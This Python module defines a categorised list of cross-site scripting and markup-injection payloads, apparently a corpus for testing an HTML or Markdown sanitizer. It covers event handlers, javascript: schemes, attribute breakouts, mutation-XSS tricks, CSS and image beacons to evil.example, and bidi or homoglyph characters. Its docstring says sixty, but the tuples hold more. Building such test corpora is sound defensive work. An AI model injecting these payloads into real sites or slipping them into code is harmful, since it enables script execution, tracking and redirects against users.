"""Sixty ways to make a page do what its author did not want, by the families there are."""

from __future__ import annotations

from typing import Final

_ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<style>*{background:url(https://evil.example/style)}</style>",
    "<link rel=stylesheet href=https://evil.example/link.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/meta'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
)
_HANDLERS: Final = tuple(
    f"<{element} {name}=alert(1) {more}>x</{element}>"
    for element, name, more in (
        ("body", "onload", ""),
        ("input", "onfocus", "autofocus"),
        ("details", "ontoggle", "open"),
        ("video", "onerror", "src=x"),
        ("audio", "onloadstart", "src=x"),
        ("marquee", "onstart", ""),
        ("a", "onmouseover", "href=#"),
        ("div", "onpointerenter", ""),
        ("select", "onfocusin", "autofocus"),
        ("p", "onanimationstart", "style=animation:x"),
        ("button", "onclick", ""),
        ("textarea", "oninput", "autofocus"),
    )
)
_SCHEMES: Final = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "javascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
)
_ATTRIBUTES: Final = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onerror=alert(1) `",
    'x" style="background:url(https://evil.example/attribute)',
    'image/png;base64,x" onload="alert(1)',
    "x autofocus onfocus=alert(1) ",
)
_DATA: Final = (
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "\u2028alert(1)\u2029]]></noscript><script>alert(1)</script>",
)
_MARKDOWN: Final = (
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/image.png)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/reference.png",
    '<https://evil.example/"onmouseover=alert(1)>',
    "<div>\n<script>alert(1)</script>\n</div>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```js onload=alert(1)><img src=x onerror=alert(1)>\nx\n```",
    '[x](https://evil.example/ "<img src=x onerror=alert(1)>")',
)
_MUTATION: Final = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template><select><template>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
)
_STYLES: Final = (
    "<style>@import'https://evil.example/import.css';</style>",
    "x{background-image:url('https://evil.example/rule')}",
    '<div style="background:url(https://evil.example/inline)">x</div>',
)
_DIRECTION: Final = (
    "\u202etxt.exe\u202c",
    "\u2066\u2067https://example.org\u2069\u2069",
    "https://аpple.example/ \u200b\u200f",
    "\ufeff\u2028\u0000\u001b]8;;https://evil.example\u001b\\x",
)

PAYLOADS: Final = (
    *_ELEMENTS, *_HANDLERS, *_SCHEMES, *_ATTRIBUTES, *_DATA, *_MARKDOWN, *_MUTATION, *_STYLES, *_DIRECTION,
)  # fmt: skip
